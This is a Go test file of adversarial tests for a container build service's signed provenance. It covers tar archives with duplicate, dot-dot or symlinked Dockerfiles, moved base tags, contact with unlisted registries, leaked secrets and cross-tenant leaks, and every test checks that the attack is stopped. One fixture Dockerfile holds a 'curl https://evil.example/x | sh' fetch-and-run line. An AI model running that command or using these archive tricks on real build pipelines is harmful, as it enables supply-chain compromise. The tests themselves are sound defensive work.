package worker

// Attacks on the attestations of a89d650 (worker/attest.go,
// worker/attest_bases.go, the attestRun call in own.go, resultVerdict and
// ensureTags in process.go): a hostile tenant, a worker stopped or slow
// at the worst moment, and what the signed statement ends up saying. A
// failing test is a break; its message says what went wrong.

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"
	"go.uber.org/zap/zaptest/observer"

	v1 "github.com/buildq/buildq/api/v1"
	"github.com/buildq/buildq/internal/attest"
	"github.com/buildq/buildq/internal/contexttar"
	"github.com/buildq/buildq/internal/kaniko"
)

// attackEntry is one entry of a hand-made context archive.
type attackEntry struct {
	name, body, link string
}

// attackArchive writes entries as a tar.gz exactly as given (duplicates,
// odd names, symlinks) and returns its digest (sha256 of the tar, as the
// request names it) and the object's bytes.
func attackArchive(t *testing.T, entries []attackEntry) (string, []byte) {
	t.Helper()
	var raw bytes.Buffer
	tw := tar.NewWriter(&raw)
	for _, e := range entries {
		h := &tar.Header{Name: e.name, Mode: 0o644, Typeflag: tar.TypeReg, Size: int64(len(e.body)), Format: tar.FormatPAX}
		if e.link != "" {
			h = &tar.Header{Name: e.name, Mode: 0o777, Typeflag: tar.TypeSymlink, Linkname: e.link, Format: tar.FormatPAX}
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if e.link == "" {
			if _, err := tw.Write([]byte(e.body)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	if _, err := zw.Write(raw.Bytes()); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("sha256:%x", sha256.Sum256(raw.Bytes())), gz.Bytes()
}

// kanikoAttested runs one kaniko build of r (its context in store) on a
// worker that attests, playing the kubelet: the Job "pushes" what push
// returns. It returns the result and the verified statement.
func kanikoAttested(t *testing.T, e *env, tr *testRegistry, store *objectStore, r *v1.Request, mutateCfg func(*Config), push func(dest string) string, beforeEnd func()) (v1.ResultData, *attest.Provenance) {
	t.Helper()
	signer, verifier := testSigner(t)
	e.startWorker("w1", func(c *Config) {
		withRegistry(tr)(c)
		c.Contexts = store
		c.Attestor = &SigningAttestor{Signer: signer}
		if mutateCfg != nil {
			mutateCfg(c)
		}
	})
	results := e.collect()
	if _, err := e.pub.Publish(context.Background(), r); err != nil {
		t.Fatal(err)
	}
	job := e.waitJob(kaniko.JobName(v1.BuildKey(r, "kaniko@"+testKaniko.ExecutorImage)))
	pushed := push(destination(job))
	if beforeEnd != nil {
		beforeEnd()
	}
	e.kubelet(job, 0, pushed)
	d := results.waitFor(t, 1, 30*time.Second)[0].Data
	if d.Status != v1.StatusSucceeded || d.Attestation == "" {
		t.Fatalf("result %s, want a success with its attestation", mustJSON(t, d))
	}
	return d, verifyAt(t, tr, verifier, strings.SplitN(d.ImageRef, "@", 2)[0], d.Digest)
}

// pushOnto pushes base with one more random layer to dest (what kaniko
// would push for "FROM base / RUN …").
func pushOnto(t *testing.T, tr *testRegistry, base string, dest string) string {
	t.Helper()
	ctx := context.Background()
	ref, err := name.ParseReference(base, name.Insecure)
	if err != nil {
		t.Fatal(err)
	}
	img, err := remote.Image(ref, tr.client.RemoteOptions(ctx)...)
	if err != nil {
		t.Fatal(err)
	}
	layer, err := random.Layer(64, "application/vnd.docker.image.rootfs.diff.tar.gzip")
	if err != nil {
		t.Fatal(err)
	}
	built, err := mutate.AppendLayers(img, layer)
	if err != nil {
		t.Fatal(err)
	}
	d, err := tr.client.Push(ctx, built, []string{dest})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// The Dockerfile a kaniko Job builds is the one fetch-context unpacks
// (contexttar.ExtractVerified: names cleaned, later entries replace
// earlier ones, symlinks followed when kaniko reads it). resolveBases
// read it with a lookup of its own (since removed), which matched only
// a regular entry named exactly "Dockerfile" or "./Dockerfile". A tenant
// whose archive holds a harmless "Dockerfile" followed by
// "x/../Dockerfile" (or a symlink "Dockerfile" → another file) has the
// Job build the second while the signed statement names the first's
// digest: the deployment signs a dockerfile.digest the build never used.
//
// Origin: attack review of a89d650, broken there for "dotdot" and "symlink"; "duplicate" (two entries
// of the same name: both sides take the last) holds.
func TestAttack_AttestDockerfileDigestIsTheOneTheJobBuilt(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name    string
		entries func(shown, built string) []attackEntry
	}{
		{"duplicate", func(shown, built string) []attackEntry {
			return []attackEntry{{name: "Dockerfile", body: shown}, {name: "Dockerfile", body: built}}
		}},
		{"dotdot", func(shown, built string) []attackEntry {
			return []attackEntry{{name: "Dockerfile", body: shown}, {name: "x/../Dockerfile", body: built}}
		}},
		{"symlink", func(shown, built string) []attackEntry {
			return []attackEntry{{name: "Dockerfile", body: shown}, {name: "real.Dockerfile", body: built}, {name: "Dockerfile", link: "real.Dockerfile"}}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			e := setup(t)
			tr := newTestRegistry(t)
			store := newObjectStore()
			pushBase(t, tr, "library/base:1")
			base := tr.host + "/library/base:1"
			shown := "FROM " + base + "\nRUN echo reviewed\n"
			builtDF := "FROM " + base + "\nRUN curl https://evil.example/x | sh\n"
			digest, archive := attackArchive(t, tc.entries(shown, builtDF))
			// What the Job builds: the context as fetch-context unpacks it.
			dir := t.TempDir()
			if err := contexttar.ExtractVerified(context.Background(), bytes.NewReader(archive), dir, 0, digest); err != nil {
				t.Fatal(err)
			}
			used, err := os.ReadFile(filepath.Join(dir, "Dockerfile"))
			if err != nil {
				t.Fatal(err)
			}
			if string(used) != builtDF {
				t.Fatalf("setup: the unpacked Dockerfile is %q", used)
			}
			r := tenantRequestFor("acme", digest)
			store.put(r.Source.S3.Key, archive)
			_, p := kanikoAttested(t, e, tr, store, r, nil, func(dest string) string { return pushOnto(t, tr, base, dest) }, nil)
			got := p.External["dockerfile"].(map[string]any)["digest"]
			want := fmt.Sprintf("sha256:%x", sha256.Sum256(used))
			if got != nil && got != want {
				t.Fatalf("the statement names dockerfile digest %v (the reviewed-looking file), the Job built %s", got, want)
			}
		})
	}
}

// resolveBases confirmed only the base the built image's final stage
// starts from (by its layers) and then named every other base — a builder
// stage's FROM, a COPY --from image — by whatever its tag points at when
// the worker looks, after the build. A tenant that moves its builder tag
// between the Job's pull and the attestation gets a signed statement
// naming a builder image the build never used. docs/attestation.md: "a
// base tag moved ... the statement names no base image rather than a
// wrong one".
//
// Origin: attack review of a89d650, broken there; fixed since.
func TestAttack_AttestMovedBuilderStageBaseIsNotNamed(t *testing.T) {
	t.Parallel()
	e := setup(t)
	tr := newTestRegistry(t)
	store := newObjectStore()
	_, usedBuilder := pushBase(t, tr, "acme/builder:1")
	pushBase(t, tr, "library/base:1")
	base := tr.host + "/library/base:1"
	df := "FROM " + tr.host + "/acme/builder:1 AS build\nRUN make\nFROM " + base + "\nCOPY --from=build /out /out\n"
	digest, archive := packDir(t, map[string]string{"Dockerfile": df})
	r := tenantRequestFor("acme", digest)
	store.put(r.Source.S3.Key, archive)
	var movedTo string
	_, p := kanikoAttested(t, e, tr, store, r, nil,
		func(dest string) string { return pushOnto(t, tr, base, dest) },
		func() { _, movedTo = pushBase(t, tr, "acme/builder:1") }) // the tenant moves its tag after the build pulled it
	for _, b := range dependency(p, "base") {
		if b.Digest == movedTo {
			t.Fatalf("the statement names builder %s @ %s, an image the build never used (it pulled %s)", b.URI, b.Digest, usedBuilder)
		}
	}
}

// countingListener counts the connections made to it.
type countingListener struct {
	net.Listener
	n atomic.Int32
}

func (l *countingListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err == nil {
		l.n.Add(1)
	}
	return c, err
}

// --allowed-registry lists "the only registries a request can make the
// worker contact" (docs/design.md, "Registries contacted": a request
// could otherwise point the worker at a private address, reached over
// plain HTTP). resolveBases resolves every FROM of a tenant's Dockerfile
// from the worker itself, with no such check: any host:port a tenant
// names is contacted (GET /v2/, then its manifest), and the error (with
// the answer's body) goes into the tenant's build log.
//
// Origin: attack review of a89d650, broken there; fixed since.
func TestAttack_AttestBaseResolutionContactsOnlyAllowedRegistries(t *testing.T) {
	t.Parallel()
	e := setup(t)
	tr := newTestRegistry(t)
	store := newObjectStore()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	cl := &countingListener{Listener: ln}
	internal := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		http.Error(w, "internal service: secret-ish body", http.StatusNotFound)
	}))
	internal.Listener = cl
	internal.Start()
	t.Cleanup(internal.Close)
	pushBase(t, tr, "library/base:1")
	df := "FROM " + ln.Addr().String() + "/library/base:1\nRUN make\n"
	digest, archive := packDir(t, map[string]string{"Dockerfile": df})
	r := tenantRequestFor("acme", digest)
	store.put(r.Source.S3.Key, archive)
	kanikoAttested(t, e, tr, store, r, func(c *Config) { c.Naming.Registries = []string{tr.host} },
		func(dest string) string { return pushOnto(t, tr, tr.host+"/library/base:1", dest) }, nil)
	if n := cl.n.Load(); n > 0 {
		t.Fatalf("the worker made %d connection(s) to %s, a registry --allowed-registry does not list, because a tenant's Dockerfile named it", n, ln.Addr())
	}
}

// A secret build argument's value is masked in buildArgs, but the base
// images are named "as the Dockerfile names them, build arguments
// expanded": a secret used in a FROM line is signed into the statement in
// clear (the build's log masks it by value; the statement does not).
//
// Origin: attack review of a89d650, broken there; fixed since.
func TestAttack_AttestSecretValueInABaseReferenceIsMasked(t *testing.T) {
	t.Parallel()
	e := setup(t)
	tr := newTestRegistry(t)
	signer, verifier := testSigner(t)
	const secret = "tok-9f8e7d6c5b4a3921"
	pushBase(t, tr, "library/base:"+secret)
	digest, tgz := packDir(t, map[string]string{"Dockerfile": "ARG TAG\nFROM " + tr.host + "/library/base:${TAG}\nCOPY app /app\n", "app": "x"})
	r := tenantRequestFor("acme", digest)
	r.BuildArgs = map[string]string{"TAG": secret}
	r.SecretBuildArgs = []string{"TAG"}
	e.startLocalWorker("w1", NewLocalBackend(mapContexts{r.Source.S3.Key: tgz}, tr.client, t.TempDir(), 0), func(c *Config) {
		withRegistry(tr)(c)
		c.Attestor = &SigningAttestor{Signer: signer}
	})
	results := e.collect()
	if _, err := e.pub.Publish(context.Background(), r); err != nil {
		t.Fatal(err)
	}
	d := results.waitFor(t, 1, 30*time.Second)[0].Data
	if d.Status != v1.StatusSucceeded {
		t.Fatalf("result %s", mustJSON(t, d))
	}
	p := verifyAt(t, tr, verifier, strings.SplitN(d.ImageRef, "@", 2)[0], d.Digest)
	if strings.Contains(string(p.Statement), secret) {
		t.Fatalf("the value of the secret build argument TAG is in the signed statement: %+v", dependency(p, "base"))
	}
}

// multiPlatformCrossTenant: acme builds an image index; globex, holding
// the same content, is answered from it (a cache hit of another tenant:
// attestAnswer). It returns both results, the verifier and the registry.
func multiPlatformCrossTenant(t *testing.T) (built, hit v1.ResultData, tr *testRegistry, verifier *attest.Verifier) {
	t.Helper()
	e := setup(t)
	tr = newTestRegistry(t)
	signer, verifier := testSigner(t)
	ctx := context.Background()
	digest, tgz := packDir(t, map[string]string{"Dockerfile": "FROM scratch\nCOPY app /app\n", "app": "shared-index"})
	a := tenantRequestFor("acme", digest)
	b := tenantRequestFor("globex", digest)
	for _, r := range []*v1.Request{a, b} {
		r.Platforms = []string{"linux/amd64", "linux/arm64"}
	}
	results := startTwoTenantAttestor(t, e, tr, signer, tgz, a, b)
	if _, err := e.pub.Publish(ctx, a); err != nil {
		t.Fatal(err)
	}
	built = oneResult(t, results, a.RequestID).Data
	if built.Status != v1.StatusSucceeded || built.Attestation == "" || len(built.Platforms) != 2 {
		t.Fatalf("acme: %s", mustJSON(t, built))
	}
	if _, err := e.pub.Publish(ctx, b); err != nil {
		t.Fatal(err)
	}
	hit = oneResult(t, results, b.RequestID).Data
	if hit.Status != v1.StatusSucceeded || hit.Digest != built.Digest || hit.Attestation == "" || hit.Attestation == built.Attestation {
		t.Fatalf("globex: %s", mustJSON(t, hit))
	}
	return built, hit, tr, verifier
}

// Another tenant answered from an image index gets a statement of its
// own (attestAnswer) — whose platform dependencies are named
// rec.Repository+"@"+digest: the builder tenant's repository. design.md
// §3b: "no tenant's request id or repository url reaches another tenant".
//
// Origin: attack review of a89d650, broken there; fixed since.
func TestAttack_AttestCrossTenantIndexStatementNamesNoOtherTenantsRepository(t *testing.T) {
	t.Parallel()
	built, hit, tr, verifier := multiPlatformCrossTenant(t)
	repoA := strings.SplitN(built.ImageRef, "@", 2)[0]
	repoB := strings.SplitN(hit.ImageRef, "@", 2)[0]
	p := verifyAt(t, tr, verifier, repoB, hit.Digest)
	if strings.Contains(string(p.Statement), repoA) {
		for _, d := range p.Dependencies {
			t.Logf("dependency %s %s %s", d.Name, d.URI, d.Digest)
		}
		t.Fatalf("globex's statement names acme's repository %s", repoA)
	}
}

// The platform images another tenant's index answer is copied into its
// repository carry no attestation: ensureTags copies the image but not
// the builder tenant's referrer (rightly), and nothing attests them for
// the new tenant (attestAnswer signs the index only). `buildq verify` of
// a platform image the globex index names fails — an answer with
// unattested images while a key is configured. The same holds for a
// platform of globex's own index build answered from acme's cache
// (buildPlatform → ensureTags).
//
// Origin: attack review of a89d650, broken there; fixed since.
func TestAttack_AttestCrossTenantPlatformImagesAreAttested(t *testing.T) {
	t.Parallel()
	_, hit, tr, verifier := multiPlatformCrossTenant(t)
	repoB := strings.SplitN(hit.ImageRef, "@", 2)[0]
	for p, d := range hit.Platforms {
		ref, err := name.NewDigest(repoB+"@"+d, name.Insecure)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := attest.Verify(context.Background(), ref, verifier, tr.client.RemoteOptions(context.Background())); err != nil {
			t.Errorf("globex's %s image %s: %v", p, ref, err)
		}
	}
}

// A record built while no key was configured (before the upgrade, or by
// a worker without --signing-key) is answered as a cache hit by a worker
// with a key, without any attestation: "no answer with an unattested
// image while a key is configured" does not hold for cache hits.
//
// Origin: attack review of a89d650, broken there; fixed since.
func TestAttack_AttestCacheHitOfAnUnattestedBuildIsAttested(t *testing.T) {
	t.Parallel()
	e := setup(t)
	tr := newTestRegistry(t)
	signer, _ := testSigner(t)
	old := e.startWorker("old", withRegistry(tr))
	results := e.collect()
	r := request("attest-upgrade")
	first := e.buildThrough(t, tr, results, r, 1).Data
	if first.Status != v1.StatusSucceeded || first.Attestation != "" {
		t.Fatalf("setup: %s", mustJSON(t, first.Status))
	}
	old.stop(t)
	e.startWorker("new", func(c *Config) {
		withRegistry(tr)(c)
		c.Attestor = &SigningAttestor{Signer: signer}
	})
	again := request("attest-upgrade")
	if _, err := e.pub.Publish(context.Background(), again); err != nil {
		t.Fatal(err)
	}
	d := results.waitFor(t, 2, 30*time.Second)[1].Data
	if d.Status != v1.StatusSucceeded || d.Origin != v1.OriginCache {
		t.Fatalf("second request: %s", mustJSON(t, d))
	}
	if d.Attestation == "" {
		t.Fatalf("a worker with a signing key answered %s with image %s and no attestation", again.RequestID, d.ImageRef)
	}
}

// gatedAttestor blocks the first Attest until released (a registry that
// hangs, or a worker stalled); the others go through.
type gatedAttestor struct {
	inner Attestor
	gate  chan struct{}
	first atomic.Bool
	once  sync.Once
	calls atomic.Int32
}

func (g *gatedAttestor) Attest(ctx context.Context, reg Registry, ref string, b attest.Build) (string, error) {
	g.calls.Add(1)
	if g.first.CompareAndSwap(false, true) {
		select {
		case <-g.gate:
		case <-ctx.Done():
			return "", ctx.Err()
		}
	}
	return g.inner.Attest(ctx, reg, ref, b)
}

func (g *gatedAttestor) Copy(ctx context.Context, reg Registry, src, dst string) error {
	return g.inner.Copy(ctx, reg, src, dst)
}

func (g *gatedAttestor) release() { g.once.Do(func() { close(g.gate) }) }

// own() stops renewing the run's lease (hold.Stop) before attestRun,
// which may take long: resolveBases reads the whole context and the
// registry, attach tries three times with no timeout of its own. Once
// the claim sits unchanged for its lease, another worker's reconciler
// (finishOrphan) ends the run with the kaniko Job's outcome — Succeeded,
// with no attestation — and every request of the key is answered from
// that record unattested: the joiner, and the owner's own request (End
// returns the record that stands). The same happens when the owner is
// killed after its Job ends, or lets the run go after three failed
// attaches (a released run is ended by the reconciler at once).
//
// Origin: attack review of a89d650, broken there and at 4291453; holds since 6207a8e (finishOrphan
// leaves a succeeded run to a taker when the worker attests), and fails
// again with -tags mutants BUILDQ_MUTANT=orphan-ends-unattested. Still
// open: the lease is not renewed while attesting, so with a parked
// waiter the sweep releases the run and the waiter takes it over (and
// attests again, or rebuilds) beside its stalled owner.
func TestAttack_AttestSlowAttestationIsNotEndedUnattestedByTheReconciler(t *testing.T) {
	t.Parallel()
	e := setup(t)
	tr := newTestRegistry(t)
	signer, _ := testSigner(t)
	ga := &gatedAttestor{inner: &SigningAttestor{Signer: signer}, gate: make(chan struct{})}
	t.Cleanup(ga.release)
	cfg := func(c *Config) { withRegistry(tr)(c); c.Attestor = ga }
	e.startWorker("w1", cfg)
	e.startWorker("w2", cfg)
	results := e.collect()
	ctx := context.Background()
	r := request("attest-slow")
	if _, err := e.pub.Publish(ctx, r); err != nil {
		t.Fatal(err)
	}
	key := v1.BuildKey(r, "kaniko@"+testKaniko.ExecutorImage)
	job := e.waitJob(kaniko.JobName(key))
	e.kubelet(job, 0, tr.push(t, destination(job)))
	eventually(t, 10*time.Second, "the owner attesting", func() bool { return ga.calls.Load() > 0 })
	// A registry slow for a few leases (the lease is 2s), then well again.
	var endedMeanwhile *v1.BuildRecord
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		if rec := e.claim(key); rec != nil && rec.Final() {
			endedMeanwhile = rec
			break
		}
	}
	ga.release()
	if endedMeanwhile != nil && endedMeanwhile.Attestation == "" {
		t.Errorf("the run was ended %s (job %s) while its owner was still attesting, with no attestation", endedMeanwhile.State, endedMeanwhile.Job)
	}
	d := oneResult(t, results, r.RequestID).Data
	if d.Status != v1.StatusSucceeded {
		t.Fatalf("%s", mustJSON(t, d))
	}
	if d.Attestation == "" {
		t.Errorf("the request was answered (%s) with image %s and no attestation, while a key is configured", d.Origin, d.ImageRef)
	}
	again := request("attest-slow")
	if _, err := e.pub.Publish(ctx, again); err != nil {
		t.Fatal(err)
	}
	if d := oneResult(t, results, again.RequestID).Data; d.Status != v1.StatusSucceeded || d.Attestation == "" {
		t.Errorf("a later request of the key was answered %s (%s) with attestation %q", d.Status, d.Origin, d.Attestation)
	}
}

// A base reference expanded from a secret build argument that cannot be
// resolved (here: not in the registry) is reported without the secret in
// the worker's own log: "provenance: base images not named" names it
// masked.
func TestAttack_AttestUnresolvedSecretBaseReferenceIsMaskedInTheWorkerLog(t *testing.T) {
	t.Parallel()
	e := setup(t)
	tr := newTestRegistry(t)
	store := newObjectStore()
	signer, _ := testSigner(t)
	const secret = "tok-0a1b2c3d4e5f6789"
	digest, archive := packDir(t, map[string]string{"Dockerfile": "ARG TAG\nFROM " + tr.host + "/library/missing:${TAG}\nRUN make\n"})
	r := tenantRequestFor("acme", digest)
	r.BuildArgs = map[string]string{"TAG": secret}
	r.SecretBuildArgs = []string{"TAG"}
	store.put(r.Source.S3.Key, archive)
	core, logs := observer.New(zapcore.InfoLevel)
	e.startWorker("w1", func(c *Config) {
		withRegistry(tr)(c)
		c.Contexts = store
		c.Attestor = &SigningAttestor{Signer: signer}
		c.Logger = zap.New(core).Named("w1")
	})
	results := e.collect()
	got := e.buildThrough(t, tr, results, r, 1)
	if got.Data.Status != v1.StatusSucceeded || got.Data.Attestation == "" {
		t.Fatalf("result %s", mustJSON(t, got.Data))
	}
	noted := false
	for _, entry := range logs.All() {
		line := entry.Message
		for k, v := range entry.ContextMap() {
			line += fmt.Sprintf(" %s=%v", k, v)
		}
		if strings.Contains(line, secret) {
			t.Fatalf("the worker's log holds the secret: %s", line)
		}
		if entry.Message == "the provenance names no base images" {
			noted = true
		}
	}
	if !noted {
		t.Fatal("the worker did not say why the provenance names no base image")
	}
}
